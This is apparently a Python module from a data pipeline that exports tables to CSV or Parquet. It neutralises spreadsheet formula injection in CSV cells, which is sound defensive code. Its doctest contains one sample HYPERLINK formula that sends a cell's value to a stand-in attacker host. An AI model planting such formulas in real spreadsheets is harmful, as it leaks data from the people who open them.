"""``duluan export``: documents, daily counts, stories or issues to CSV or Parquet."""
from __future__ import annotations

from pathlib import Path

import pandas as pd

from pipeline import frames
from pipeline.common.files import temporary_beside
from pipeline.store.store import Store

WHAT = ("documents", "counts", "stories", "issues")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A text cell a spreadsheet would run as a formula (``=HYPERLINK(…)``, ``+``,
    ``-``, ``@``, tab, CR first) gets a leading apostrophe; other values are kept.

    >>> print(neutralise('=HYPERLINK("http://evil.test/?x="&A1,"Xem")'), neutralise("Sốt"), neutralise(-3))
    '=HYPERLINK("http://evil.test/?x="&A1,"Xem") Sốt -3
    """
    return "'" + value if isinstance(value, str) and value.startswith(_FORMULA_START) else value


def table(what: str, store: Store, start: str | None, end: str | None) -> pd.DataFrame:
    """The DataFrame to export; ``stories`` and ``issues`` are those of the digest of ``end``."""
    if what == "documents":
        return frames.documents(store, start, end)
    if what == "counts":
        return frames.daily_counts(store, start, end, by=("topic", "signal", "province"))
    if what == "stories":
        return frames.stories(end, store)
    if what == "issues":
        return frames.issues(end, store)
    raise ValueError(f"unknown table {what!r}: choose among {', '.join(WHAT)}")


def write(frame: pd.DataFrame, path: Path) -> Path:
    """Write CSV (UTF-8 with BOM, so spreadsheet programs read Vietnamese; formula-like
    cells neutralised) or Parquet, by the file's suffix, through a temporary file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = temporary_beside(path)
    frame = frame.copy()
    for column in frame.columns:  # lists (facilities) as text, for both formats
        if frame[column].map(lambda v: isinstance(v, list)).any():
            frame[column] = frame[column].map(lambda v: "; ".join(v) if isinstance(v, list) else v)
    if path.suffix == ".parquet":
        frame.to_parquet(tmp, index=False)
    elif path.suffix == ".csv":
        for column in frame.columns[frame.dtypes == object]:
            frame[column] = frame[column].map(neutralise)
        frame.to_csv(tmp, index=False, encoding="utf-8-sig", lineterminator="\r\n")  # CR in a cell is quoted
    else:
        raise ValueError(f"{path.name}: use a .csv or .parquet file name")
    tmp.replace(path)
    return path
